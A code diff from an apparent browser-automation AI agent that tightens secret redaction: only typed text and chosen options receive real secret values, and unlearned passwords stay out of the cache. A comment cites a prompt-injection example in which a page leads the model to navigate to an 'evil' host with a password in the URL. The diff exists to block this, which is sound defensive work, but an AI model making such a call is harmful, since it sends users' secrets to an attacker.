@@ -3,22 +3,30 @@
  * The model reads and writes `%name%`; only the arguments handed to the browser are revealed,
  * and whatever leaves the agent (steps, checks, lessons, cache entries) is redacted.
  */
+import { redactStep } from "../secrets/redact-records.js";
 import type { SecretValues } from "../secrets/secret-values.js";
 import { TYPED_SECRET } from "../secrets/secret-values.js";
 import type { StepRecord } from "./agent-loop.js";
 import type { RawElement } from "./snapshot-script.js";
 
-/** The arguments whose text reaches the page: typed text, a chosen option, a URL, a text waited for. */
-const REVEALED = ["text", "option", "url"] as const;
+/**
+ * The arguments revealed, by tool: only the text typed into a field and the option chosen in
+ * one, which go into the page's own fields. A URL to open, a text to wait for or anything else
+ * keeps `%name%` literally: a page that talks the model into `navigate("https://evil/?p=%password%")`
+ * must not make the runner send the secret off-site.
+ */
+const REVEALED: Record<string, string> = { type: "text", select: "option" };
 
-/** The call's arguments as the browser must receive them: each `%name%` of a known secret replaced by its value. */
-export function revealArgs(args: Record<string, unknown>, secrets: SecretValues): Record<string, unknown> {
-  const revealed = { ...args };
-  for (const key of REVEALED) {
-    const value = revealed[key];
-    if (typeof value === "string") revealed[key] = secrets.reveal(value);
-  }
-  return revealed;
+/** The call's arguments as the browser must receive them: `%name%` of a known secret replaced by its value where REVEALED allows. */
+export function revealArgs(
+  tool: string,
+  args: Record<string, unknown>,
+  secrets: SecretValues,
+): Record<string, unknown> {
+  const key = Object.hasOwn(REVEALED, tool) ? REVEALED[tool] : undefined;
+  if (key === undefined) return args;
+  const value = args[key];
+  return typeof value === "string" ? { ...args, [key]: secrets.reveal(value) } : args;
 }
 
 export function isPasswordField(element: RawElement | undefined): boolean {
@@ -27,12 +35,14 @@ export function isPasswordField(element: RawElement | undefined): boolean {
 
 /**
  * Learns a value typed into a password field, so every record of it is redacted. Returns true
- * when the value is no named secret of the spec (it is then shown as %typed_secret%, which no
- * replay could turn back into the value).
+ * when the value is no named secret of the spec: it is then shown as %typed_secret%, which no
+ * replay could turn back into the value, so what typed it must not be cached. A value too short
+ * to be learned (SecretValues.learnTyped) counts as unnamed too: it is not redacted, so it must
+ * at least never be written to the action cache.
  */
 export function learnPassword(value: string, secrets: SecretValues): boolean {
   if (value === "") return false;
-  secrets.learnTyped(value);
+  if (!secrets.learnTyped(value)) return true;
   return secrets.redact(value).includes(TYPED_SECRET);
 }
 
@@ -45,7 +55,7 @@ export async function recordRedacted(
   secrets: SecretValues,
   onStep: (step: StepRecord) => Promise<void>,
 ): Promise<void> {
-  const clean = secrets.redactDeep(step);
+  const clean = redactStep(step, secrets);
   await onStep(clean);
   step.index = clean.index;
   step.screenshot = clean.screenshot;
@@ -58,14 +68,15 @@ export async function recordRedacted(
  * already streamed (the progress file) keeps what it said; naming the secret (`%name%`) avoids that.
  */
 export class HandedOut {
-  private readonly records: object[] = [];
+  private readonly records: { redactNow: (secrets: SecretValues) => void }[] = [];
 
-  keep<T extends object>(record: T): T {
-    this.records.push(record);
+  /** Keeps `record`, redacted later by `redact` (one of redact-records.ts's, for its kind of record). */
+  keep<T extends object>(record: T, redact: (record: T, secrets: SecretValues) => T): T {
+    this.records.push({ redactNow: (secrets) => Object.assign(record, redact(record, secrets)) });
     return record;
   }
 
   redactAll(secrets: SecretValues): void {
-    for (const record of this.records) Object.assign(record, secrets.redactDeep(record));
+    for (const record of this.records) record.redactNow(secrets);
   }
 }
